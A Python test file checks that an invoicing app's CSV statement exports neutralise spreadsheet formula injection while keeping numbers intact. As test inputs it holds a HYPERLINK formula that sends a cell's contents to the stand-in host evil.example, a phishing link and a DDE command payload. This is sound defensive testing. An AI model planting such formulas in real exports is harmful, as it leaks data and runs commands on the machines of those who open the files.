"""Exports are safe to open in Excel (issue 14, finding 6): a text cell that a spreadsheet would
read as a formula (=, +, -, @, tab, carriage return first) gets a leading single quote, in the web
statement CSV; numbers gvia writes as numbers (-250.00, dates) stay as they are."""

from __future__ import annotations

import csv
import io

import pytest

from gvia.core.cells import safe_cell

EVIL_NUMBER = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_NAME = '=HYPERLINK("http://evil.example","Pay here")'


@pytest.mark.parametrize("text", ["=1+1", "+972501234567x", "-2+3", "@SUM(A1)", "\t=1", "\r=1", EVIL_NAME])
def test_formula_texts_get_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-250.00", "+3", "1,250.00", "2026-03-15", "INV-1", "שלום", "", None])
def test_numbers_and_plain_texts_stay(value):
    assert safe_cell(value) == value


def test_web_statement_csv_neutralises_formulas_and_keeps_numbers(as_owner, world):
    from gvia.services.context import Ctx
    from gvia.services.ledger import books as ledger
    from gvia.store.models import Invoice, Payment

    c = world.c2
    c.name = EVIL_NAME
    c.save()
    Invoice.objects.filter(pk=world.inv_2001.pk).update(number=EVIL_NUMBER)
    # 2,250.00 paid on 2,000.00 owed: the balance ends at -250.00, written as a number
    Payment.objects.create(organization=c.organization, customer=c, date=world.inv_2001.issue_date,
                           amount_minor=225000, currency="USD", import_key="over", reference="@cmd|' /C calc'!A0")
    ledger.recompute(Ctx(world.org_a, None), [c.id])
    r = as_owner.get(f"/customers/{c.id}/statement/?format=csv")
    assert r.status_code == 200
    text = r.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-") and cell != "-250.00"]
    assert "'" + EVIL_NUMBER in cells
    assert "'@cmd|' /C calc'!A0" in cells
    assert rows[-1][7] == "-250.00"          # the closing balance, a number
    assert rows[1][0] == world.inv_2001.issue_date.isoformat()
